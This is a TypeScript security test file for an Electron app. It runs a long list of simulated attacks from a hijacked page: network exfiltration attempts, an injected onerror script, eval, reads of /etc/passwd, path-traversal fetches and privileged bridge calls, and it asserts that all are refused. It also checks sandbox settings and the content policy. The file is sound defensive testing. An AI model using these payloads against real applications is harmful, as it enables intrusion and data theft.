import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { unpackEnvelope } from '../../shared/kernel';
import { expect, test } from './support/launch';

/** A port on this machine that only counts who comes. */
async function sentinel() {
  let reached = 0;
  const tcp = createServer((socket) => {
    reached += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const address = tcp.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const udp = createSocket('udp4', () => {
    reached += 1;
  });
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  return {
    port,
    reached: () => reached,
    close: () => {
      tcp.close();
      udp.close();
    },
  };
}

/**
 * Attacks of a page that has been taken over: code of the attacker runs in our page's own world. Each gives `refused`, or
 * says what it got. Everything is in one function because it is sent to the page as text.
 */
function attacks(port: number): Promise<Record<string, string>> {
  const base = `http://127.0.0.1:${port}`;
  const settle = (work: () => unknown, patience = 1500): Promise<string> =>
    Promise.race([
      (async () => {
        try {
          const value = await work();
          return value === undefined || value === false || value === null
            ? 'refused'
            : `got ${String(value)}`;
        } catch {
          return 'refused';
        }
      })(),
      new Promise<string>((resolve) => setTimeout(() => resolve('refused'), patience)),
    ]);
  /** Adds an element and waits whether it loads. */
  const element = (tag: string, attributes: Record<string, string>) => () =>
    new Promise((resolve, reject) => {
      const made = document.createElement(tag);
      made.addEventListener('load', () => resolve('loaded'));
      made.addEventListener('error', () => reject(new Error('error')));
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
    });
  const world = globalThis as unknown as Record<string, unknown> & {
    waymark: { call(name: string, input: unknown): Promise<string> };
    marked?: boolean;
  };
  const call = (name: string, input: unknown) => async () => {
    const reply = JSON.parse(await world.waymark.call(name, input)) as { ok: boolean };
    return reply.ok ? 'answered' : undefined;
  };
  const inline = async (arm: () => void) => {
    world.marked = false;
    arm();
    await new Promise((resolve) => setTimeout(resolve, 200));
    return Reflect.get(world, 'marked') === true ? 'ran' : undefined;
  };
  const all: Record<string, () => unknown> = {
    'fetch http': async () => (await fetch(`${base}/x`)).status,
    'fetch https': async () => (await fetch(`https://127.0.0.1:${port}/x`)).status,
    'fetch a name': async () => (await fetch('http://example.org/')).status,
    'fetch no-cors': async () => (await fetch(`${base}/x`, { mode: 'no-cors' })).type,
    'XML request': () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(request.status);
        request.onerror = () => reject(new Error('error'));
        request.open('GET', `${base}/x`);
        request.send();
      }),
    'web socket': () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('error'));
      }),
    'event source': () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${base}/x`);
        source.onopen = () => resolve('open');
        source.onerror = () => {
          source.close();
          reject(new Error('error'));
        };
      }),
    sendBeacon: () => {
      // Answers true once queued; whether anything leaves is what the sentinel counts.
      navigator.sendBeacon(`${base}/x`, 'secret');
    },
    'web rtc': async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      connection.createDataChannel('x');
      const found: string[] = [];
      connection.onicecandidate = (event) => {
        if (event.candidate && / (?:srflx|relay) /.test(event.candidate.candidate)) found.push('candidate');
      };
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 800));
      connection.close();
      return found[0];
    },
    image: element('img', { src: `${base}/x.png` }),
    'script from outside': element('script', { src: `${base}/x.js` }),
    'style from outside': element('link', { rel: 'stylesheet', href: `${base}/x.css` }),
    'prefetch link': element('link', { rel: 'prefetch', href: `${base}/x` }),
    'preconnect link': element('link', { rel: 'preconnect', href: base }),
    'dns prefetch': element('link', { rel: 'dns-prefetch', href: 'http://leak.example.org' }),
    video: element('video', { src: `${base}/x.mp4`, autoplay: '' }),
    object: element('object', { data: `${base}/x.pdf` }),
    'form post': () => {
      const form = document.createElement('form');
      form.action = `${base}/x`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
    'ping link': () => {
      const link = document.createElement('a');
      link.href = '#x';
      link.ping = `${base}/x`;
      document.body.append(link);
      link.click();
    },
    // biome-ignore lint/security/noGlobalEval: this is the attack
    eval: () => eval('1 + 1'),
    'Function constructor': () => new Function('return 1')(),
    'timer with text': () => inline(() => void setTimeout('globalThis.marked = true' as never, 0)),
    'inline script': () =>
      inline(() => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.marked = true';
        document.body.append(script);
      }),
    'inline handler': () =>
      inline(() => {
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="x:" onerror="globalThis.marked = true">';
        document.body.append(holder);
      }),
    'script from data': () =>
      inline(() => {
        const script = document.createElement('script');
        script.src = 'data:text/javascript,globalThis.marked=true';
        document.body.append(script);
      }),
    'script from blob': () =>
      inline(() => {
        const script = document.createElement('script');
        script.src = URL.createObjectURL(new Blob(['globalThis.marked = true'], { type: 'text/javascript' }));
        document.body.append(script);
      }),
    'import from data': async () =>
      (await import(/* @vite-ignore */ String('data:text/javascript,export default 1'))).default,
    'worker from blob': () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = () => resolve('ran');
        worker.onerror = () => reject(new Error('error'));
      }),
    'service worker': async () => {
      await navigator.serviceWorker.register('/sw.js');
      return 'registered';
    },
    'frame of our own page': () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = 'app://waymark/index.html';
        frame.onload = () => {
          try {
            resolve(frame.contentWindow && 'waymark' in frame.contentWindow ? 'bridge' : undefined);
          } catch {
            resolve(undefined);
          }
        };
        document.body.append(frame);
      }),
    'frame with script': () =>
      inline(() => {
        const frame = document.createElement('iframe');
        frame.srcdoc = '<script>parent.marked = true</script>';
        document.body.append(frame);
      }),
    'window.open': () => window.open(`${base}/x`),
    'window.open of our page': () => window.open('app://waymark/index.html'),
    'go elsewhere': () => {
      location.href = `${base}/x`;
    },
    'go to a file': () => {
      location.href = 'file:///etc/passwd';
    },
    'reload as javascript': () =>
      inline(() => {
        location.href = 'javascript:globalThis.marked = true';
      }),
    'read a local file': async () => (await fetch('file:///etc/passwd')).status,
    'climb out of the pages': async () => {
      const reply = await fetch('app://waymark/..%2f..%2fpackage.json');
      return reply.ok ? 'read' : undefined;
    },
    'another host of our scheme': async () => {
      const reply = await fetch('app://elsewhere/index.html');
      return reply.ok ? 'read' : undefined;
    },
    'a stored file by path': async () => {
      const reply = await fetch('wmdoc://sha256/..%2f..%2fwaymark.db');
      return reply.ok ? 'read' : undefined;
    },
    'a stored file of another kind': async () => {
      const reply = await fetch('wmdoc://md5/d41d8cd98f00b204e9800998ecf8427e');
      return reply.ok ? 'read' : undefined;
    },
    'a stored file that is not there': async () => {
      const reply = await fetch(`wmdoc://sha256/${'0'.repeat(64)}`);
      return reply.ok ? 'read' : undefined;
    },
    download: () => {
      const link = document.createElement('a');
      link.href = 'data:application/octet-stream,secret';
      link.download = 'secret.bin';
      document.body.append(link);
      link.click();
    },
    camera: async () => (await navigator.mediaDevices.getUserMedia({ video: true })).id,
    screen: async () => (await navigator.mediaDevices.getDisplayMedia()).id,
    place: () =>
      new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(() => resolve('position'), reject);
      }),
    notifications: async () =>
      (await Notification.requestPermission()) === 'granted' ? 'granted' : undefined,
    'read the clipboard': () => navigator.clipboard.readText(),
    'MIDI devices': async () => {
      await navigator.requestMIDIAccess();
      return 'granted';
    },
    'USB devices': async () => {
      const usb = (navigator as unknown as { usb?: { requestDevice(options: unknown): Promise<unknown> } })
        .usb;
      return usb ? await usb.requestDevice({ filters: [] }) : undefined;
    },
    'pick a file': async () => {
      const pick = world.showOpenFilePicker as (() => Promise<unknown>) | undefined;
      return pick ? await pick() : undefined;
    },
    'full screen': async () => {
      await document.documentElement.requestFullscreen();
      return document.fullscreenElement ? 'full screen' : undefined;
    },
    'Node in the page': () =>
      typeof world.require === 'function' || world.process !== undefined ? 'Node' : undefined,
    'Electron in the page': () => ((world.electron ?? world.ipcRenderer) ? 'Electron' : undefined),
    'change the bridge': () => {
      const before = world.waymark.call;
      try {
        world.waymark.call = async () => '{}';
      } catch {
        return undefined;
      }
      return world.waymark.call === before ? undefined : 'changed';
    },
    'a call that is not in the list': call('process.close', {}),
    'a call with paths': call('library.startImportOfPaths', { paths: ['/etc/passwd'] }),
    'a call named like a prototype': call('__proto__', {}),
    'an invented token': call('library.startImport', { tokens: ['0190b000-0000-7000-8000-000000000001'] }),
    'an extra member': call('settings.get', { constructor: { name: 'x' }, more: 1 }),
    'a giant input': call('library.list', { text: 'x'.repeat(50_000_000) }),
  };
  return (async () => {
    const results: Record<string, string> = {};
    for (const [name, attack] of Object.entries(all)) results[name] = await settle(attack);
    return results;
  })();
}

test('a page that has been taken over cannot leave it', async ({ app, page }) => {
  const { port, reached, close } = await sentinel();
  const address = page.url();
  const results = await page.evaluate(attacks, port);
  expect(Object.keys(results).length).toBeGreaterThanOrEqual(48);
  expect(Object.entries(results).filter(([, result]) => result !== 'refused')).toEqual([]);
  expect(reached()).toBe(0);
  expect(page.url().split('#')[0]).toBe(address.split('#')[0]);
  expect(app.windows()).toHaveLength(1);
  // Still our page, still answering.
  const alive = await page.evaluate(() => window.waymark.call('settings.get', {}));
  expect(unpackEnvelope(alive)).toMatchObject({ ok: true });
  close();
});

test('the window has every wall it should have', async ({ app }) => {
  const preferences = await app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>;
    };
    const kept = contents.getLastWebPreferences();
    return Object.fromEntries(
      [
        'sandbox',
        'contextIsolation',
        'nodeIntegration',
        'nodeIntegrationInSubFrames',
        'webSecurity',
        'allowRunningInsecureContent',
        'webviewTag',
        'experimentalFeatures',
      ].map((name) => [name, kept[name]]),
    );
  });
  expect(preferences).toEqual({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    webviewTag: false,
    experimentalFeatures: false,
  });
});

test('the content policy allows nothing inline and changes its nonce with every load', async ({ page }) => {
  const read = () =>
    page.evaluate(async () =>
      (await fetch('app://waymark/index.html')).headers.get('content-security-policy'),
    );
  const [first, second] = [await read(), await read()];
  expect(first).toContain("default-src 'none'");
  expect(first).not.toContain('unsafe-inline');
  expect(first).not.toContain("'unsafe-eval'");
  expect(/'nonce-([^']+)'/.exec(first ?? '')?.[1]).not.toBe(/'nonce-([^']+)'/.exec(second ?? '')?.[1]);
});
